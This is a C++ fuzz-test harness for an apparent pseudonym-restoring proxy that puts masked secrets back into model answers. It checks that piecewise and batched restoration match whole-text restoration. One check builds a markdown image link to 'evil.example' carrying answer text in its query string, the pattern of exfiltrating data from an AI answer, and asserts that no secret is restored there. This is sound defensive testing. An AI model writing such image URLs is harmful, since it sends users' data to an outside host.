// Restoring and scanning of any answer in any pieces: the same as in one piece, nothing lost at the
// end, no value inside what looks like a URL of a stranger, and not one byte of a secret let go.
// How many slots come in one batch makes no difference either.

#include <cstdint>
#include <memory>
#include <optional>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "algo/json/escape.h"
#include "base/assert.h"
#include "flow/8_restore/batch_restorer.h"
#include "flow/8_restore/text_restorer.h"

namespace {

using namespace sluice;  // NOLINT(google-build-using-namespace): a main file of its own.

constexpr std::string_view kPlaceholder = "EMAIL_QZTKRBWMHD";
constexpr std::string_view kOriginal = "ada\"@x.example";

policy::Snapshot masking() {
  policy::Snapshot snapshot;
  snapshot.zones = {{.name = "cloud"}};
  const policy::AnswerCell mask{policy::AnswerAction::mask, RuleIndex{0}};
  snapshot.answers = {std::vector<policy::AnswerCell>(snapshot.catalog.size(), mask)};
  snapshot.rules = {{.kind = "answers", .name = "rule"}};
  return snapshot;
}

/// All that answers share. Built once; the restorers keep what differs.
struct World {
  policy::Snapshot snapshot = masking();
  std::unique_ptr<const scan::Scanner> scanner = *scan::Scanner::make({});
  Request request;
  std::vector<std::string> hosts = {"docs.corp.example"};
  restore::Pseudonyms pseudonyms{{.entries = {{std::string(kPlaceholder), std::string(kOriginal)}}},
                                 hosts};
  restore::AnswerRules rules{{snapshot, *scanner, request, std::nullopt},
                             ZoneIndex{0},
                             pseudonyms.matcher(placeholder::Encoding::plain)};
};

/// Writes what was held back when a channel ends as it is.
class NoEvents final : public FrameSource {
 public:
  [[nodiscard]] Task<Result<FrameBatch>> next() override { co_return FrameBatch{}; }

  [[nodiscard]] std::string text_event(const Channel&, std::string_view text) const override {
    return json::escaped(text);
  }

  [[nodiscard]] std::string error_event(const Error&) const override { return {}; }

  [[nodiscard]] std::string_view content_type() const override { return {}; }
};

enum class Grouping : std::uint8_t { alone, together };

/// The bytes before the first zero byte are the answer, those behind it the sizes of its pieces.
struct Input {
  std::string_view answer;
  std::string_view sizes;
};

Input split(std::string_view bytes) {
  const std::size_t end = bytes.find('\0');
  return end == std::string_view::npos ? Input{bytes, {}}
                                       : Input{bytes.substr(0, end), bytes.substr(end + 1)};
}

std::string in_pieces(World& world, Channel::Kind kind, const Input& input) {
  restore::TextRestorer restorer(kind, &world.rules, world.pseudonyms);
  std::string out;
  std::string_view rest = input.answer;
  for (const char size : input.sizes) {
    const std::string_view piece = rest.substr(0, static_cast<unsigned char>(size));
    restorer.push(piece, restore::Rest::follows, out);
    rest.remove_prefix(piece.size());
  }
  restorer.push(rest, restore::Rest::none, out);
  SLUICE_ASSERT(restorer.stopped() || !restorer.is_holding());
  return out;
}

void check(World& world, Channel::Kind kind, const Input& input) {
  const std::string whole = in_pieces(world, kind, {input.answer, {}});
  SLUICE_ASSERT(in_pieces(world, kind, input) == whole);
  const std::string bytes(input.answer.size(), '\1');
  SLUICE_ASSERT(in_pieces(world, kind, {input.answer, bytes}) == whole);
}

/// What leaves of an answer whose pieces are slots of one batch, or each of a batch of its own.
std::string in_batches(World& world, const Input& input, Grouping grouping) {
  restore::BatchRestorer restorer(nullptr, world.pseudonyms);
  const NoEvents source;
  FrameBatch batch;
  std::string out;
  const auto deliver = [&] {
    const Result<std::string> wire = restorer.restore(std::exchange(batch, {}), source);
    SLUICE_ASSERT(wire.has_value());
    out += *wire;
  };
  const auto add = [&](std::string_view piece) {
    const auto begin = static_cast<std::uint32_t>(batch.wire.size());
    json::append_escaped(batch.wire, piece, 1);
    batch.slots.push_back({.begin = begin, .end = static_cast<std::uint32_t>(batch.wire.size())});
    if (grouping == Grouping::alone) {
      deliver();
    }
  };
  std::string_view rest = input.answer;
  for (const char size : input.sizes) {
    const std::string_view piece = rest.substr(0, static_cast<unsigned char>(size));
    add(piece);
    rest.remove_prefix(piece.size());
  }
  add(rest);
  batch.closes.push_back({.at = static_cast<std::uint32_t>(batch.wire.size())});
  deliver();
  return json::unescape(out, 1);
}

void check_stranger(World& world, std::string_view answer) {
  std::string url = "![x](https://evil.example/?q=";
  for (const char c : answer.substr(0, 64)) {
    url += c > ' ' && c != ')' ? c : '.';
  }
  if (url.contains(kOriginal)) {
    return;  // The model wrote it: nothing of the caller's has to be put back for that.
  }
  restore::TextRestorer restorer(Channel::Kind::text, nullptr, world.pseudonyms);
  std::string out;
  restorer.push(url.append(kPlaceholder), restore::Rest::none, out);
  SLUICE_ASSERT(!out.contains(kOriginal));
}

}  // namespace

extern "C" int LLVMFuzzerTestOneInput(const std::uint8_t* data, std::size_t size) {
  static World world;  // Immutable but for scratch; libFuzzer has one thread.
  const Input input = split({reinterpret_cast<const char*>(data), size});
  check(world, Channel::Kind::text, input);
  check(world, Channel::Kind::tool_arguments, input);
  SLUICE_ASSERT(in_batches(world, input, Grouping::alone) ==
                in_batches(world, input, Grouping::together));
  check_stranger(world, input.answer);
  return 0;
}
